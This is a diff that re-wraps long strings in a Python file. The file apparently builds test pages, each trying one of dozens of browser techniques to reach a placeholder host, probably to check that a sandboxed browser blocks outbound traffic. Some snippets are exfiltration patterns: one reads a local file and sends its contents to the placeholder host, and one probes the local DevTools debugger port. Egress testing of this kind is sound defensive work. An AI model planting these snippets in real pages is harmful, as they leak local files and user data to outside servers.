@@ -27,7 +27,10 @@ ELEMENTS = {
     "frame": "<iframe src=OUT></iframe>",
     "frame-in-a-frame": "<iframe srcdoc='<iframe src=OUT></iframe>'></iframe>",
     "frame-with-a-picture": "<iframe srcdoc='<img src=OUT>'></iframe>",
-    "frame-in-a-sandbox": "<iframe sandbox=allow-scripts srcdoc='<script>fetch(`OUT`, {mode: `no-cors`})</script>'></iframe>",
+    "frame-in-a-sandbox": (
+        "<iframe sandbox=allow-scripts srcdoc='<script>fetch(`OUT`, {mode:"
+        " `no-cors`})</script>'></iframe>"
+    ),
     "frame-of-data": "<iframe src='data:text/html,<img src=OUT>'></iframe>",
     "frameset": "<frameset><frame src=OUT></frameset>",
     "script": "<script src=OUT></script>",
@@ -58,16 +61,28 @@ ELEMENTS = {
     "style-image-set": "<div style='background: image-set(\"OUT\" 1x)'>x</div>",
     "vector-image": "<svg><image href=OUT width=9 height=9 /></svg>",
     "vector-script": "<svg><script href=OUT></script></svg>",
-    "vector-filter": "<svg><filter id=f><feImage href=OUT /></filter><rect width=9 height=9 filter=url(#f) /></svg>",
+    "vector-filter": (
+        "<svg><filter id=f><feImage href=OUT /></filter><rect width=9 height=9 filter=url(#f)"
+        " /></svg>"
+    ),
     "refresh": "<meta http-equiv=refresh content='0; url=OUT'>",
     "base": "<base href=http://HOST/><img src=base>",
-    "speculative-prefetch": '<script type=speculationrules>{"prefetch": [{"urls": ["OUT"], "eagerness": "immediate"}]}</script>',
-    "speculative-prerender": '<script type=speculationrules>{"prerender": [{"urls": ["OUT"], "eagerness": "immediate"}]}</script>',
+    "speculative-prefetch": (
+        '<script type=speculationrules>{"prefetch": [{"urls": ["OUT"], "eagerness":'
+        ' "immediate"}]}</script>'
+    ),
+    "speculative-prerender": (
+        '<script type=speculationrules>{"prerender": [{"urls": ["OUT"], "eagerness":'
+        ' "immediate"}]}</script>'
+    ),
     "print-stylesheet": "<link rel=stylesheet media=print href=OUT>",
     "touch-icon": "<link rel=apple-touch-icon href=OUT>",
     "search-description": "<link rel=search type=application/opensearchdescription+xml href=OUT>",
     "dictionary": "<link rel=compression-dictionary href=OUT>",
-    "import-map": '<script type=importmap>{"imports": {"x": "OUT"}}</script><script type=module>import \'x\'</script>',
+    "import-map": (
+        '<script type=importmap>{"imports": {"x": "OUT"}}</script><script type=module>import'
+        " 'x'</script>"
+    ),
     "module-of-data": "<script type=module>import x from 'OUT' with {type: 'json'}</script>",
     "style-in-a-layer": "<style>@import url(OUT) layer(x) supports(display: block)</style>",
     "cursor": "<div style='cursor: url(OUT), auto; height: 900px'>x</div>",
@@ -79,24 +94,38 @@ ELEMENTS = {
     "marker": "<style>li::marker { content: url(OUT) }</style><li>x",
     "first-letter": "<style>p::first-letter { background: url(OUT) }</style><p>x",
     "vector-use": "<svg><use href=OUT#x /></svg>",
-    "vector-old-link": "<svg><image xmlns:xlink=http://www.w3.org/1999/xlink xlink:href=OUT width=9 height=9 /></svg>",
+    "vector-old-link": (
+        "<svg><image xmlns:xlink=http://www.w3.org/1999/xlink xlink:href=OUT width=9 height=9"
+        " /></svg>"
+    ),
     "vector-style": "<svg><style>rect { fill: url(OUT#p) }</style><rect width=9 height=9 /></svg>",
     "vector-foreign": "<svg><foreignObject width=9 height=9><img src=OUT></foreignObject></svg>",
     "vector-object": "<object type=image/svg+xml data=OUT></object>",
-    "frame-with-a-refresh": "<iframe srcdoc='<meta http-equiv=refresh content=\"0; url=OUT\">'></iframe>",
+    "frame-with-a-refresh": (
+        "<iframe srcdoc='<meta http-equiv=refresh content=\"0; url=OUT\">'></iframe>"
+    ),
     "lazy-frame": "<iframe loading=lazy src=OUT></iframe>",
     "lazy-image": "<img loading=lazy src=OUT>",
-    "fenced-frame": "<fencedframe></fencedframe><script>document.querySelector('fencedframe').config = "
-    "window.FencedFrameConfig && new FencedFrameConfig('OUT')</script>",
+    "fenced-frame": (
+        "<fencedframe></fencedframe><script>document.querySelector('fencedframe').config = "
+        "window.FencedFrameConfig && new FencedFrameConfig('OUT')</script>"
+    ),
     "attribution": "<img src=data:, attributionsrc=OUT>",
-    "input-image-action": "<form><input type=submit formaction=OUT id=s></form><script>s.click()</script>",
+    "input-image-action": (
+        "<form><input type=submit formaction=OUT id=s></form><script>s.click()</script>"
+    ),
     "area": "<map name=m><area shape=default href=OUT id=a></map><script>a.click()</script>",
-    "vector-link": "<svg><a href=OUT id=a><text y=9>x</text></a></svg><script>a.dispatchEvent(new MouseEvent('click'))</script>",
+    "vector-link": (
+        "<svg><a href=OUT id=a><text y=9>x</text></a></svg><script>a.dispatchEvent(new"
+        " MouseEvent('click'))</script>"
+    ),
     "file-frame": "<iframe src=FILE></iframe>",
     "file-image": "<img src=FILE>",
     "file-object": "<object data=FILE></object>",
     "file-script": "<script src=FILE></script>",
-    "report-of-the-policy": "<meta http-equiv=content-security-policy content=\"img-src 'none'\"><img src=OUT>",
+    "report-of-the-policy": (
+        "<meta http-equiv=content-security-policy content=\"img-src 'none'\"><img src=OUT>"
+    ),
 }
 SCRIPTS = {
     "fetch": "fetch('OUT')",
@@ -116,18 +145,32 @@ SCRIPTS = {
     "loose-image": "new Image().src = 'OUT'",
     "loose-sound": "new Audio('OUT').load()",
     "loose-font": "new FontFace('f', 'url(OUT)').load()",
-    "style-rule": "document.adoptedStyleSheets = [new CSSStyleSheet()]; const s = document.createElement('style');"
-    "document.head.append(s); s.sheet.insertRule('body { background: url(OUT) }')",
-    "style-sheet-of-text": "const l = document.createElement('link'); l.rel = 'stylesheet';"
-    "l.href = URL.createObjectURL(new Blob(['@import \"OUT\"'], {type: 'text/css'})); document.head.append(l)",
+    "style-rule": (
+        "document.adoptedStyleSheets = [new CSSStyleSheet()]; const s ="
+        " document.createElement('style');document.head.append(s); s.sheet.insertRule('body {"
+        " background: url(OUT) }')"
+    ),
+    "style-sheet-of-text": (
+        "const l = document.createElement('link'); l.rel = 'stylesheet';l.href ="
+        " URL.createObjectURL(new Blob(['@import \"OUT\"'], {type: 'text/css'}));"
+        " document.head.append(l)"
+    ),
     "worker": "new Worker(URL.createObjectURL(new Blob(['fetch(`OUT`)'])))",
     "worker-import": "new Worker(URL.createObjectURL(new Blob(['importScripts(`OUT`)'])))",
-    "worker-socket": "new Worker(URL.createObjectURL(new Blob(['new WebSocket(`ws://HOST/worker-socket`)'])))",
-    "worker-module": "new Worker(URL.createObjectURL(new Blob(['import `x`'.replaceAll('`', '\"').replace('x', 'OUT')],"
-    "{type: 'text/javascript'})), {type: 'module'})",
-    "worker-in-a-worker": "new Worker(URL.createObjectURL(new Blob(["
-    "'new Worker(URL.createObjectURL(new Blob([\"fetch(`OUT`)\"])))'])))",
-    "worker-transport": "new Worker(URL.createObjectURL(new Blob(['new WebTransport(`https://HOST/x`)'])))",
+    "worker-socket": (
+        "new Worker(URL.createObjectURL(new Blob(['new WebSocket(`ws://HOST/worker-socket`)'])))"
+    ),
+    "worker-module": (
+        "new Worker(URL.createObjectURL(new Blob(['import `x`'.replaceAll('`', '\"').replace('x',"
+        " 'OUT')],{type: 'text/javascript'})), {type: 'module'})"
+    ),
+    "worker-in-a-worker": (
+        "new Worker(URL.createObjectURL(new Blob(["
+        "'new Worker(URL.createObjectURL(new Blob([\"fetch(`OUT`)\"])))'])))"
+    ),
+    "worker-transport": (
+        "new Worker(URL.createObjectURL(new Blob(['new WebTransport(`https://HOST/x`)'])))"
+    ),
     "shared-worker": "new SharedWorker('/shared.js?OUT')",
     "shared-worker-socket": "new SharedWorker('/shared-socket.js?HOST')",
     "service-worker": "navigator.serviceWorker.register('/service.js?OUT')",
@@ -137,89 +180,169 @@ SCRIPTS = {
     "window-without-opener": "open('OUT', '_blank', 'noopener')",
     "window-that-fetches": "open('about:blank').eval(\"fetch('OUT', {mode: 'no-cors'})\")",
     "location": "location = 'OUT'",
-    "location-in-a-frame": "const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.location = 'OUT'",
-    "frame-that-fetches": "const f = document.createElement('iframe'); document.body.append(f);"
-    "f.contentWindow.fetch('OUT', {mode: 'no-cors'})",
-    "link": "const a = document.createElement('a'); a.href = 'OUT'; document.body.append(a); a.click()",
-    "link-to-a-new-tab": "const a = document.createElement('a'); a.href = 'OUT'; a.target = '_blank';"
-    "document.body.append(a); a.click()",
-    "link-ping": "const a = document.createElement('a'); a.href = '#x'; a.ping = 'OUT'; document.body.append(a); a.click()",
-    "link-download": "const a = document.createElement('a'); a.href = 'OUT'; a.download = 'x'; document.body.append(a); a.click()",
-    "form": "const f = document.createElement('form'); f.action = 'OUT'; document.body.append(f); f.submit()",
-    "form-post": "const f = document.createElement('form'); f.action = 'OUT'; f.method = 'post';"
-    "document.body.append(f); f.submit()",
-    "form-in-a-frame": "const i = document.createElement('iframe'); i.name = 'i'; document.body.append(i);"
-    "const f = document.createElement('form'); f.action = 'OUT'; f.target = 'i'; document.body.append(f); f.submit()",
-    "last-words": "addEventListener('pagehide', () => navigator.sendBeacon('OUT', 'x')); location = '/'",
+    "location-in-a-frame": (
+        "const f = document.createElement('iframe'); document.body.append(f);"
+        " f.contentWindow.location = 'OUT'"
+    ),
+    "frame-that-fetches": (
+        "const f = document.createElement('iframe'); document.body.append(f);"
+        "f.contentWindow.fetch('OUT', {mode: 'no-cors'})"
+    ),
+    "link": (
+        "const a = document.createElement('a'); a.href = 'OUT'; document.body.append(a); a.click()"
+    ),
+    "link-to-a-new-tab": (
+        "const a = document.createElement('a'); a.href = 'OUT'; a.target = '_blank';"
+        "document.body.append(a); a.click()"
+    ),
+    "link-ping": (
+        "const a = document.createElement('a'); a.href = '#x'; a.ping = 'OUT';"
+        " document.body.append(a); a.click()"
+    ),
+    "link-download": (
+        "const a = document.createElement('a'); a.href = 'OUT'; a.download = 'x';"
+        " document.body.append(a); a.click()"
+    ),
+    "form": (
+        "const f = document.createElement('form'); f.action = 'OUT'; document.body.append(f);"
+        " f.submit()"
+    ),
+    "form-post": (
+        "const f = document.createElement('form'); f.action = 'OUT'; f.method = 'post';"
+        "document.body.append(f); f.submit()"
+    ),
+    "form-in-a-frame": (
+        "const i = document.createElement('iframe'); i.name = 'i'; document.body.append(i);const f"
+        " = document.createElement('form'); f.action = 'OUT'; f.target = 'i';"
+        " document.body.append(f); f.submit()"
+    ),
+    "last-words": (
+        "addEventListener('pagehide', () => navigator.sendBeacon('OUT', 'x')); location = '/'"
+    ),
     "replaced-location": "location.replace('OUT')",
     "assigned-location": "location.assign('OUT')",
     "navigation": "navigation.navigate('OUT')",
     "opened-document": "document.open('OUT', 'x', 'popup')",
     "popup": "open('OUT', 'x', 'popup,width=99,height=99')",
     "script-address": "location = \"javascript:location = 'OUT'\"",
-    "frame-turns-the-page": "const f = document.createElement('iframe'); f.srcdoc = `<script>top.location = 'OUT'</` + `script>`;"
-    "document.body.append(f)",
+    "frame-turns-the-page": (
+        "const f = document.createElement('iframe'); f.srcdoc = `<script>top.location = 'OUT'</` +"
+        " `script>`;document.body.append(f)"
+    ),
     "window-turns-its-opener": "open('about:blank').eval(\"opener.location = 'OUT'\")",
     "window-written": "open('about:blank').document.write(\"<img src='OUT'>\")",
-    "requested-form": "const f = document.createElement('form'); f.action = 'OUT'; document.body.append(f); f.requestSubmit()",
-    "form-to-a-new-tab": "const f = document.createElement('form'); f.action = 'OUT'; f.target = '_blank';"
-    "document.body.append(f); f.submit()",
-    "beacon-when-hidden": "addEventListener('visibilitychange', () => navigator.sendBeacon('OUT', 'x')); location = '/'",
+    "requested-form": (
+        "const f = document.createElement('form'); f.action = 'OUT'; document.body.append(f);"
+        " f.requestSubmit()"
+    ),
+    "form-to-a-new-tab": (
+        "const f = document.createElement('form'); f.action = 'OUT'; f.target = '_blank';"
+        "document.body.append(f); f.submit()"
+    ),
+    "beacon-when-hidden": (
+        "addEventListener('visibilitychange', () => navigator.sendBeacon('OUT', 'x')); location"
+        " = '/'"
+    ),
     "fetch-with-a-header": "fetch('OUT', {headers: {'x-y': 'z'}})",
-    "fetch-in-a-frame-of-data": "const f = document.createElement('iframe');"
-    "f.src = 'data:text/html,<script>fetch(`OUT`, {mode: `no-cors`})</' + 'script>'; document.body.append(f)",
-    "request-in-a-worker": "new Worker(URL.createObjectURL(new Blob(["
-    "'const r = new XMLHttpRequest(); r.open(`GET`, `OUT`, false); r.send()'])))",
+    "fetch-in-a-frame-of-data": (
+        "const f = document.createElement('iframe');f.src = 'data:text/html,<script>fetch(`OUT`,"
+        " {mode: `no-cors`})</' + 'script>'; document.body.append(f)"
+    ),
+    "request-in-a-worker": (
+        "new Worker(URL.createObjectURL(new Blob(["
+        "'const r = new XMLHttpRequest(); r.open(`GET`, `OUT`, false); r.send()'])))"
+    ),
     "events-in-a-worker": "new Worker(URL.createObjectURL(new Blob(['new EventSource(`OUT`)'])))",
     "worker-of-data": "new Worker('data:text/javascript,fetch(`OUT`)')",
     "socket-stream": "new WebSocketStream('ws://HOST/socket-stream')",
-    "socket-in-a-frame": "const f = document.createElement('iframe'); document.body.append(f);"
-    "new f.contentWindow.WebSocket('ws://HOST/socket-in-a-frame')",
-    "session-picture": "navigator.mediaSession.metadata = new MediaMetadata({artwork: [{src: 'OUT'}]})",
+    "socket-in-a-frame": (
+        "const f = document.createElement('iframe'); document.body.append(f);"
+        "new f.contentWindow.WebSocket('ws://HOST/socket-in-a-frame')"
+    ),
+    "session-picture": (
+        "navigator.mediaSession.metadata = new MediaMetadata({artwork: [{src: 'OUT'}]})"
+    ),
     "notification": "new Notification('x', {icon: 'OUT'})",
-    "payment": "new PaymentRequest([{supportedMethods: 'https://HOST/payment'}], {total: {label: 'x',"
-    "amount: {currency: 'EUR', value: '1'}}}).canMakePayment().catch(() => 0)",
-    "parsed-entity": "new DOMParser().parseFromString('<!DOCTYPE x [<!ENTITY e SYSTEM \"OUT\">]><x>&e;</x>', 'text/xml')",
-    "transformed": 'const d = new DOMParser().parseFromString(\'<xsl:stylesheet version="1.0"'
-    ' xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:copy-of select="document(`OUT`)"/>'
-    "</xsl:template></xsl:stylesheet>', 'text/xml'); const t = new XSLTProcessor(); t.importStylesheet(d);"
-    "t.transformToDocument(document)",
+    "payment": (
+        "new PaymentRequest([{supportedMethods: 'https://HOST/payment'}], {total: {label: 'x',"
+        "amount: {currency: 'EUR', value: '1'}}}).canMakePayment().catch(() => 0)"
+    ),
+    "parsed-entity": (
+        "new DOMParser().parseFromString('<!DOCTYPE x [<!ENTITY e SYSTEM \"OUT\">]><x>&e;</x>',"
+        " 'text/xml')"
+    ),
+    "transformed": (
+        'const d = new DOMParser().parseFromString(\'<xsl:stylesheet version="1.0"'
+        ' xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:copy-of'
+        " select=\"document(`OUT`)\"/></xsl:template></xsl:stylesheet>', 'text/xml'); const t ="
+        " new XSLTProcessor(); t.importStylesheet(d);t.transformToDocument(document)"
+    ),
     "shared-module": "new SharedWorker('/shared.js?OUT', {type: 'module'})",
     "shared-storage": "sharedStorage.worklet.addModule('OUT').catch(() => 0)",
-    "ad-auction": "navigator.joinAdInterestGroup({owner: 'https://HOST', name: 'x', lifetimeMs: 9999}).catch(() => 0)",
+    "ad-auction": (
+        "navigator.joinAdInterestGroup({owner: 'https://HOST', name: 'x', lifetimeMs:"
+        " 9999}).catch(() => 0)"
+    ),
     "direct-socket": "new TCPSocket('127.0.0.1', HOST)",
     "debugger": "fetch('http://127.0.0.1:9222/json/version').catch(() => fetch('OUT'))",
     "debugger-socket": "new WebSocket('ws://HOST/devtools/browser/debugger-socket')",
-    "service-worker-by-its-prototype": "ServiceWorkerContainer.prototype.register.call(navigator.serviceWorker, '/service.js?OUT')",
-    "service-worker-by-a-frame": "const f = document.createElement('iframe'); document.body.append(f);"
-    "f.contentWindow.ServiceWorkerContainer.prototype.register.call(navigator.serviceWorker, '/service.js?OUT')",
-    "service-worker-after-a-deletion": "delete ServiceWorkerContainer.prototype.register;"
-    "navigator.serviceWorker.register('/service.js?OUT')",
+    "service-worker-by-its-prototype": (
+        "ServiceWorkerContainer.prototype.register.call(navigator.serviceWorker, '/service.js?OUT')"
+    ),
+    "service-worker-by-a-frame": (
+        "const f = document.createElement('iframe');"
+        " document.body.append(f);f.contentWindow.ServiceWorkerContainer.prototype.register.call(navigator.serviceWorker,"
+        " '/service.js?OUT')"
+    ),
+    "service-worker-after-a-deletion": (
+        "delete ServiceWorkerContainer.prototype.register;"
+        "navigator.serviceWorker.register('/service.js?OUT')"
+    ),
     "file-fetch": "fetch('FILE').then(r => r.text()).then(t => fetch('OUT?' + t))",
     "file-location": "location = 'FILE'",
     "file-window": "open('FILE')",
     "file-source": "open('view-source:FILE')",
     "inner-page": "open('chrome://version')",
-    "stun": "const c = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:UDP'}]}); c.createDataChannel('x');"
-    "c.createOffer().then(o => c.setLocalDescription(o))",
-    "turn": "const c = new RTCPeerConnection({iceServers: [{urls: 'turn:127.0.0.1:UDP', username: 'u', credential: 'c'}]});"
-    "c.createDataChannel('x'); c.createOffer().then(o => c.setLocalDescription(o))",
-    "turn-over-tcp": "const c = new RTCPeerConnection({iceServers: [{urls: 'turn:HOST?transport=tcp', username: 'u',"
-    "credential: 'c'}]}); c.createDataChannel('x'); c.createOffer().then(o => c.setLocalDescription(o))",
-    "stun-in-a-frame": "const f = document.createElement('iframe'); document.body.append(f);"
-    "const c = new f.contentWindow.RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:UDP'}]});"
-    "c.createDataChannel('x'); c.createOffer().then(o => c.setLocalDescription(o))",
-    "stun-in-a-window": "const w = open('about:blank');"
-    "const c = new w.RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:UDP'}]});"
-    "c.createDataChannel('x'); c.createOffer().then(o => c.setLocalDescription(o))",
+    "stun": (
+        "const c = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:UDP'}]});"
+        " c.createDataChannel('x');c.createOffer().then(o => c.setLocalDescription(o))"
+    ),
+    "turn": (
+        "const c = new RTCPeerConnection({iceServers: [{urls: 'turn:127.0.0.1:UDP', username: 'u',"
+        " credential: 'c'}]});c.createDataChannel('x'); c.createOffer().then(o =>"
+        " c.setLocalDescription(o))"
+    ),
+    "turn-over-tcp": (
+        "const c = new RTCPeerConnection({iceServers: [{urls: 'turn:HOST?transport=tcp', username:"
+        " 'u',credential: 'c'}]}); c.createDataChannel('x'); c.createOffer().then(o =>"
+        " c.setLocalDescription(o))"
+    ),
+    "stun-in-a-frame": (
+        "const f = document.createElement('iframe'); document.body.append(f);const c = new"
+        " f.contentWindow.RTCPeerConnection({iceServers: [{urls:"
+        " 'stun:127.0.0.1:UDP'}]});c.createDataChannel('x'); c.createOffer().then(o =>"
+        " c.setLocalDescription(o))"
+    ),
+    "stun-in-a-window": (
+        "const w = open('about:blank');"
+        "const c = new w.RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:UDP'}]});"
+        "c.createDataChannel('x'); c.createOffer().then(o => c.setLocalDescription(o))"
+    ),
 }
 PROGRAM = "mailto:a@b.test?body=words"
 PROGRAMS = {
-    "program-by-a-click": f"const a = document.createElement('a'); a.href = '{PROGRAM}'; document.body.append(a); a.click()",
+    "program-by-a-click": (
+        f"const a = document.createElement('a'); a.href = '{PROGRAM}'; document.body.append(a);"
+        " a.click()"
+    ),
     "program-by-a-location": f"location = '{PROGRAM}'",
-    "program-by-a-frame": f"const f = document.createElement('iframe'); f.src = '{PROGRAM}'; document.body.append(f)",
-    "program-by-a-form": f"const f = document.createElement('form'); f.action = '{PROGRAM}'; f.method = 'post';"
-    "document.body.append(f); f.submit()",
+    "program-by-a-frame": (
+        f"const f = document.createElement('iframe'); f.src = '{PROGRAM}'; document.body.append(f)"
+    ),
+    "program-by-a-form": (
+        f"const f = document.createElement('form'); f.action = '{PROGRAM}'; f.method = 'post';"
+        "document.body.append(f); f.submit()"
+    ),
     "program-by-a-window": f"open('{PROGRAM}')",
     "program-of-a-phone": "location = 'tel:123'",
     "program-of-an-editor": "location = 'vscode://file/x'",
@@ -228,7 +351,10 @@ PROGRAMS = {
 }
 """Scripts."""
 REFRESHES = {"program-by-a-refresh": f"<meta http-equiv=refresh content='0; url={PROGRAM}'>"}
-REDIRECTS = {f"redirect-{status}": Reply(status, {"Location": "OUT"}, b"") for status in (301, 302, 303, 307, 308)}
+REDIRECTS = {
+    f"redirect-{status}": Reply(status, {"Location": "OUT"}, b"")
+    for status in (301, 302, 303, 307, 308)
+}
 HEADERS = {
     "refresh-header": {"Refresh": "0; url=OUT"},
     "link-header": {"Link": "<OUT>; rel=preload; as=image"},
@@ -253,9 +379,16 @@ def pages(host: str, udp: int, file: str) -> dict[str, str | Reply]:
     """Returns path → page, with one page for each way."""
 
     def filled(text: str, name: str) -> str:
-        return text.replace("OUT", f"http://{host}/{name}").replace("HOST", host).replace("UDP", str(udp)).replace("FILE", file)
+        return (
+            text.replace("OUT", f"http://{host}/{name}")
+            .replace("HOST", host)
+            .replace("UDP", str(udp))
+            .replace("FILE", file)
+        )
 
-    made: dict[str, str | Reply] = {f"/{name}": filled(text, name) for name, text in ELEMENTS.items()}
+    made: dict[str, str | Reply] = {
+        f"/{name}": filled(text, name) for name, text in ELEMENTS.items()
+    }
     made |= {f"/{name}": text for name, text in REFRESHES.items()}
     for name, text in {**SCRIPTS, **PROGRAMS}.items():
         made[f"/{name}"] = f"<body><script>try {{ {filled(text, name)} }} catch {{}}</script>"
@@ -267,7 +400,9 @@ def pages(host: str, udp: int, file: str) -> dict[str, str | Reply]:
         made[f"/{name}"] = Reply(200, {"content-type": "text/html", **sent}, b"<img src=/x>")
     script = {"content-type": "text/javascript"}
     made["/shared.js"] = Reply(200, script, b"fetch(location.search.slice(1))")
-    made["/shared-socket.js"] = Reply(200, script, b"new WebSocket('ws://' + location.search.slice(1) + '/shared-worker-socket')")
+    made["/shared-socket.js"] = Reply(
+        200, script, b"new WebSocket('ws://' + location.search.slice(1) + '/shared-worker-socket')"
+    )
     made["/service.js"] = Reply(200, script, b"fetch(location.search.slice(1))")
     return made | {"/": "<title>Home</title>"}
 
